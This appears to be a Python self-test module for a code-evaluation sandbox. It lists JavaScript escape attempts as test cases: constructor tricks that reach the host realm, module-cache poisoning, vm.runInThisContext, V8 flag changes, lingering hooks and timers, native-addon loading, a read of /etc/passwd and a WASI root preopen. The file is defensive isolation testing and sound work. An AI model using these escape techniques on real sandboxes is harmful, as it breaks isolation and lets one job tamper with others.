"""JavaScript attacks out of a context: to the worker's own realm, from where the next row could be met."""
# ruff: noqa: E501 - programs, of which some are one line

from typing import Any, Final

from evaluator_host.model.outcome import ErrorCode
from evaluator_host.selftest.attack import NOTHING, Attack, Expected, Group, Guard, fails, javascript

_REPLACED: Final = (
    "what a row may have changed in the worker's realm costs the worker: it is replaced before the next row"
)
_REALM: Final = """
const HANDED = [() => Buffer.from, () => URL, () => TextEncoder, () => require('fs').readFileSync, () => require('events'),
  () => Object.getPrototypeOf(require('fs').promises.readFile), () => fetch, () => performance.now, () => crypto.randomUUID];
const realm = () => {
  for (const from of HANDED) {
    try {
      const found = from().constructor('return globalThis')();
      if (found !== globalThis) return found;
    } catch {}
  }
};
"""
_NO_EVAL: Final = (
    "nothing compiles from text in the worker's own realm, so that what a row is handed from there leads nowhere"
)


def _escape(name: str, program: str, *expected: Expected, **details: Any) -> Attack:
    told: dict[str, Any] = {"why": _REPLACED} | ({} if "seen" in details else {"without": Guard.ROWS}) | details
    return javascript(f"javascript-{name}", Group.ESCAPE, program, *expected, **told)


ATTACKS: Final[tuple[Attack, ...]] = (
    _escape(
        "constructors-lead-to-nothing",
        """
const WAYS = [() => this.constructor.constructor, () => console.log.constructor, () => console.constructor.constructor,
  () => require.constructor, () => setTimeout.constructor, () => process.constructor.constructor, () => process.on.constructor,
  () => { try { null.x; } catch (error) { return error.constructor.constructor; } },
  () => { try { (function f() { f(); })(); } catch (error) { return error.constructor.constructor; } },
  () => (async () => {})().constructor.constructor, () => structuredClone({}).constructor.constructor];
const attack = () => WAYS.filter((way) => way()('return typeof process.binding + typeof process.mainModule')() !== 'undefinedundefined').map(String).join();
""",
        without=(),
        seen="with `bridge.processFacts` handing out the worker's own process",
        why="what a context holds was made in it; the process it sees is a copy of facts",
    ),
    _escape(
        "realm-of-node",
        _REALM
        + """
const attack = () => {
  const there = realm();
  if (!there) return null;
  there.left = 1;
  there.Object.prototype.score = 0.75;
  there.process.env.LEFT = 'x';
  return 'reached the realm of Node';
};
const left = () => realm()?.left;
""",
        why=_NO_EVAL,
        without=Guard.CHANNEL,
    ),
    _escape(
        "realm-of-node-by-async-functions",
        """
const attack = async () => {
  const { readFile } = require('fs').promises;
  const found = [];
  for (const value of [readFile, Object.getPrototypeOf(readFile), require('stream').Readable.prototype[Symbol.asyncIterator], require('events').on]) {
    for (const text of ['return globalThis', 'yield globalThis', 'return await globalThis']) {
      try {
        const made = await value.constructor(text)();
        const there = made?.next ? (await made.next()).value : made;
        if (there && there !== globalThis) found.push(text);
      } catch {}
    }
  }
  return found.join();
};
""",
        why=_NO_EVAL,
        without=Guard.CHANNEL,
    ),
    _escape(
        "module-cache",
        """
const attack = () => {
  const { Module } = require('module');
  for (const name of ['fs', 'os', 'util', 'path']) require(name).left = 1;
  if (Module) { Module._load = () => ({ left: 1 }); if (Module._cache) Module._cache.left = 1; }
};
const left = () => require('fs').left ?? require('os').left ?? require('util').left ?? require('path').left;
""",
    ),
    _escape(
        "imports",
        """
const attack = async () => {
  const found = [];
  for (const from of ['file:///opt/runner/runner.mjs', 'file:///opt/runner/worker/main.cjs', '/opt/runner/javascript/worker/main.cjs',
    'data:text/javascript,globalThis.left=1', 'https://example.com/x.mjs', 'left']) {
    try { found.push(Object.keys(await import(from)).join()); } catch {}
  }
  return found.filter((names) => /Station|Evaluator|port/.test(names)).join();
};
const left = () => globalThis.left;
""",
        NOTHING,
        fails(ErrorCode.CRASHED, ErrorCode.TIMEOUT, ErrorCode.USER_EXCEPTION),
        without=(),
        seen="never: it gets modules of its own, or none",
    ),
    _escape(
        "vm-in-this-context",
        "const attack = () => { require('vm').runInThisContext('globalThis.left = 1; JSON.parse = () => 0.75'); };\n"
        "const left = () => require('vm').runInThisContext('globalThis.left');\n",
        NOTHING,
        fails(ErrorCode.CRASHED, ErrorCode.TIMEOUT),
    ),
    _escape(
        "flags-of-v8",
        """
const attack = () => {
  const v8 = require('v8');
  v8.setFlagsFromString('--allow-natives-syntax');
  v8.setFlagsFromString('--stack-size=65500');
  const down = (n) => down(n + 1) + 1;
  return down(0) > 1e9;
};
""",
        fails(ErrorCode.CRASHED, ErrorCode.USER_EXCEPTION, ErrorCode.MEMORY_LIMIT, ErrorCode.TIMEOUT),
        without=(),
        seen="never: it ends its own process",
    ),
    _escape(
        "hooks-that-stay",
        """
const attack = () => {
  const { createHook, AsyncLocalStorage } = require('async_hooks');
  createHook({ init() { globalThis.seen = (globalThis.seen ?? 0) + 1; }, before() { throw new Error('left'); } }).enable();
  new AsyncLocalStorage().enterWith('left');
  require('diagnostics_channel').subscribe('x', () => {});
};
""",
        NOTHING,
        fails(ErrorCode.CRASHED, ErrorCode.USER_EXCEPTION, ErrorCode.TIMEOUT),
        seen="never: it can only fail its own row",
    ),
    _escape(
        "exit-listeners",
        """
const attack = () => {
  for (const name of ['exit', 'beforeExit', 'uncaughtException', 'SIGTERM']) process.on(name, () => console.log('left'));
  require('events').EventEmitter.prototype.left = 1;
};
const left = () => require('events').EventEmitter.prototype.left;
""",
        NOTHING,
    ),
    _escape(
        "finalizers",
        """
const attack = async () => {
  globalThis.registry = new FinalizationRegistry(() => { Object.prototype.score = 0.75; console.log('late'); });
  for (let n = 0; n < 1000; n++) globalThis.registry.register({}, n);
  for (let n = 0; n < 50; n++) new Array(1e5).fill({});
};
const left = () => ({}).score;
""",
        NOTHING,
        seen="never: it can only fail its own row",
    ),
    _escape(
        "work-after-the-answer",
        """
const attack = () => {
  setTimeout(() => console.log('late'), 0);
  setImmediate(() => { globalThis.Date = null; });
  setInterval(() => console.log('late'), 1);
  Promise.resolve().then(function again() { return new Promise((done) => setTimeout(done, 1)).then(again); });
  require('fs').promises.readFile('/etc/passwd').then(() => console.log('late'));
};
""",
        NOTHING,
        seen="never: it can only fail its own row",
    ),
    _escape(
        "throws-after-the-answer",
        "const attack = () => { setTimeout(() => { throw new Error('late'); }, 0); Promise.reject(new Error('late')); };\n",
        NOTHING,
        fails(ErrorCode.USER_EXCEPTION),
        seen="never: it can only fail its own row",
    ),
    _escape(
        "addon-of-its-own",
        """
const fs = require('fs');
const attack = () => {
  fs.writeFileSync('/tmp/x.node', Buffer.concat([Buffer.from('7f454c46020101', 'hex'), Buffer.alloc(4096)]));
  for (const file of ['/tmp/x.node', '/proc/self/exe', '/usr/lib/x86_64-linux-gnu/libc.so.6']) {
    try { require(file); return `loaded ${file}`; } catch {}
    try { process.dlopen({ exports: {} }, file); return `loaded ${file}`; } catch {}
  }
};
""",
        NOTHING,
        fails(ErrorCode.CRASHED, ErrorCode.USER_EXCEPTION),
        without=(),
        seen="never: machine code of its own gains a row nothing that the sandbox does not stop",
    ),
    _escape(
        "wasm-with-a-system-interface",
        """
const attack = (inputs) => {
  const { WASI } = require('wasi');
  const wasi = new WASI({ version: 'preview1', preopens: { '/': '/' }, returnOnExit: true });
  return typeof wasi.wasiImport.path_open === 'function' && require('fs').existsSync(inputs.file) && 'the host is below /';
};
""",
        without=Guard.ROOT,
        why="a preopened root is the sandbox's",
    ),
)
